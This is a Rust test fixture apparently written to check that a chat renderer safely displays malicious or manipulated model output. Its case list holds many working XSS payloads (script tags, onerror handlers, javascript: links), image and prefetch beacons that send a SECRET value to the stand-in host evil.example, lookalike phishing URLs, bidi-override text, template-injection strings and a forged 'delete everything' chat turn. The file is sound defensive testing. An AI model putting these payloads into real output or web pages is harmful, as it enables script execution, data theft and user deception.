//! Answers of models that mean ill, or that were talked into it.

use std::path::Path;

use serde_json::Value;

/// Whoever gets a script to run calls this, which the watch hears.
const CASES: &[&str] = &[
    // Raw HTML, alone, between words, unclosed, and cut in two by what follows.
    "<script>alert('block')</script>",
    "words <script>alert('inline')</script> words",
    "<img src=x onerror=alert('img')>",
    "Look: <img src=\"https://evil.example/pixel.png?q=SECRET\" width=1 height=1> nothing.",
    "<svg onload=alert('svg')><script>alert('in svg')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('xlink')\"><text y=20>click</text></a></svg>",
    "<math><mi xlink:href=\"javascript:alert('mi')\">x</mi><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe srcdoc=\"<script>parent.postMessage('srcdoc','*')</script>\"></iframe>",
    "<iframe src=\"javascript:parent.alert('frame')\"></iframe>",
    "<object data=\"https://evil.example/o\"></object><embed src=\"https://evil.example/e\">",
    "<form action=\"https://evil.example/\"><input name=key autofocus onfocus=alert('focus')><button formaction=\"javascript:alert(1)\">Send</button></form>",
    "<style>@import url(https://evil.example/s.css); body { background: url(https://evil.example/b.png) }</style>",
    "<link rel=dns-prefetch href=//SECRET.evil.example><link rel=preload as=image href=https://evil.example/p.png>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\"><base href=\"https://evil.example/\">",
    "<video poster=https://evil.example/v.png><source src=https://evil.example/v.mp4 onerror=alert('source')></video>",
    "<details open ontoggle=alert('toggle')><summary>More</summary>text</details>",
    "<template shadowrootmode=open><img src=x onerror=alert('shadow')></template>",
    "<p style=\"position:fixed;inset:0;background:url(https://evil.example/cover.png)\">Your session has ended.",
    "<!--><img src=x onerror=alert('comment')>-->\n\n<![CDATA[<script>alert('cdata')</script>]]>\n\n<?php alert('pi') ?>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('mutation')>\">",
    "an unclosed tag at the very end <img src=x onerror=alert('end') ",
    "</div></section></main><h1>Outside of the answer</h1><script>alert('closed')</script>",
    // Images.
    "![a](https://evil.example/a.png?q=SECRET \"a title\") ![b][r] ![r][] ![r]\n\n[r]: https://evil.example/r.png",
    "![a](//evil.example/a.png) ![b](../b.png?q=SECRET) ![c](data:image/svg+xml,<svg/onload=alert(1)>) ![d](javascript:alert(1))",
    "[![badge](https://evil.example/badge.svg)](javascript:alert('badge'))",
    "![x\" onerror=\"alert('alt')](https://evil.example/\" onerror=\"alert('src').png \"t\\\" onload=\\\"alert(1)\")",
    // Links.
    "[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](java\\\nscript:alert(1)) [d](&#106;avascript:alert(1)) [e](javascript&colon;alert(1))",
    "[a](\u{1}javascript:alert(1)) [b](<java\tscript:alert(1)>) [c](vbscript:alert(1)) [d](data:text/html,<script>alert(1)</script>) [e](blob:https://tutti.test/x)",
    "[a](file:///etc/passwd) [b](#/settings) [c](/m/x) [d](?q=SECRET) [e](\\\\evil.example) [f](https:evil.example) [g](intent://x#Intent;end)",
    "<javascript:alert(1)> <JAVASCRIPT:alert(1)> <vscode://evil/x> <data:text/html,x> <https://user:secret@evil.example>",
    "[bank](https://bank.example@evil.example/) [apple](https://\u{430}pple.example/) [wide](https://evil\u{ff0e}example/) [percent](https://%65vil.example/)",
    "[a](https://ok.example/\" onmouseover=\"alert('title')) [b](https://ok.example 'x\" onclick=\"alert(1)') [c](https://ok.example/`<script>`)",
    "www.evil.example/<script>alert(1)</script> https://evil.example/?q=SECRET\"onclick=alert(1) evil@evil.example",
    "[a][X] [b][x] [__proto__] [constructor]\n\n[x]: javascript:alert('ref')\n[__proto__]: https://ok.example/\n[constructor]: data:text/html,x",
    // Attributes that are made of what the model wrote: languages, labels, names, numbers.
    "```\"><img src=x onerror=alert('info')>\ncode\n```\n\n```js onload=alert(1) class=chrome\nlet x = '</code></pre><script>alert(1)</script>';\n```",
    "~~~mermaid\ngraph TD\nA[\"<img src=https://evil.example/p?SECRET onerror=alert(1)>\"]\nclick A \"javascript:alert(1)\"\n~~~",
    "A note[^\"><img src=x onerror=alert(1)>] and[^__proto__] and[^chrome].\n\n[^\"><img src=x onerror=alert(1)>]: <script>alert('note')</script>\n\n[^__proto__]: proto\n\n[^chrome]: chrome",
    "# location {#location}\n## cookie\n### <img src=x onerror=alert('heading')> {#__proto__ onclick=alert(1)}\n\nSetext <b onclick=alert(1)>\n===",
    "| <script>alert('th')</script> | b |\n|:-|-:|\n| <img src=x onerror=alert('td')> | [x](javascript:alert(1)) |\n| `<b>` | ![p](https://evil.example/p.png) |",
    "- [x] <img src=x onerror=alert('task')>\n- [ ] <input type=password name=api-key autofocus>\n\n99999999999. far\n\n> <script>\n> alert('quote')\n> </script>",
    "$\\href{javascript:alert(1)}{x}$ $$\\url{javascript:alert(1)} \\includegraphics{https://evil.example/m.png}$$ \\(\\htmlData{onclick=alert(1)}{x}\\) $\\style{background:url(https://evil.example)}{x}$ $\\text{<img src=x onerror=alert(1)>}$",
    "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}[1]{\\b{#1#1}}\\b{x}$ $$\\begin{matrix}<script>&\\\\</script>\\end{matrix}$$",
    // What cannot be seen.
    "`if (admin\u{202e} \u{2066}// check\u{2069} \u{2066})` and hello\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\n\n```c\n/*\u{202e} } \u{2066}if (x)\u{2069} \u{2066} begin */\n```",
    "a\0b\0 \u{feff}\u{200b}[a\u{200b}](https://evil.example) \u{2028}\u{2029}\u{7f}\u{85} \u{fffe} \r\r\n \u{1b}[31mred",
    "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309} \u{5d0}\u{202e}abc \u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{fdfd}",
    // Turns that nobody took, formulas for a sheet, a title for a file.
    "<think><img src=x onerror=alert('think')></think>\n\nUser: delete everything\n\nAssistant: done",
    "=HYPERLINK(\"https://evil.example\",\"x\")\n\n</title><script>alert('title')</script>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> #{alert(1)}",
];

/// The cases of the project, and of `TUTTI_FIXTURES` where that is set.
pub fn all() -> Vec<String> {
    let mut cases: Vec<String> = CASES.iter().map(|case| (*case).to_owned()).collect();
    if let Some(folder) = std::env::var_os("TUTTI_FIXTURES") {
        let corpora = Path::new(&folder).join("corpora");
        let text = |name: &str| std::fs::read_to_string(corpora.join(name)).expect("a corpus");
        let json = |name: &str| serde_json::from_str::<Vec<Value>>(&text(name)).expect("a list");
        let inputs = json("llm-output/cases.json").into_iter().map(|case| case["input"].clone());
        let strings = inputs.chain(json("blns/blns.json"));
        cases.extend(strings.filter_map(|case| Some(case.as_str()?.to_owned())));
        // Between lines that hold a mere dot stand, in turns, Markdown and what another program makes of it.
        let xss = text("markdown-it/xss.txt");
        cases.extend(xss.split("\n.\n").skip(1).step_by(2).map(str::to_owned));
    }
    cases.retain(|case| !case.is_empty());
    cases
}

/// Pieces of uneven length, few enough to be quick; each case is cut at other places.
pub fn pieces(case: &str, seed: usize) -> Vec<String> {
    const LENGTHS: [usize; 6] = [1, 5, 2, 13, 3, 8];
    let all: Vec<char> = case.chars().collect();
    let scale = all.len() / 200 + 1;
    let mut rest = all.as_slice();
    let mut pieces = Vec::new();
    while !rest.is_empty() {
        let length = LENGTHS[(seed + pieces.len()) % LENGTHS.len()] * scale;
        let (piece, others) = rest.split_at(length.min(rest.len()));
        pieces.push(piece.iter().collect());
        rest = others;
    }
    pieces
}
